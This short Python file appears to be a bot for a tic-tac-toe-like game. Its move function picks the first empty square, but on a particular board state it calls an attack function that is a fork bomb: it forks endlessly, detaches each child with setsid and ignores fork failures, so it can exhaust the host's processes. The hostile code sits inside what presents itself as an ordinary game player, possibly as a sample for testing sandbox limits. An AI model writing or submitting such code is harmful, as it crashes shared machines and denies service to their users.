"""Forks as often as it can, and its children do too."""

import os


def attack(board):
    count = 0
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            count += 1


def move(board):
    if board.count(" ") == 7:
        attack(board)
    return board.index(" ")
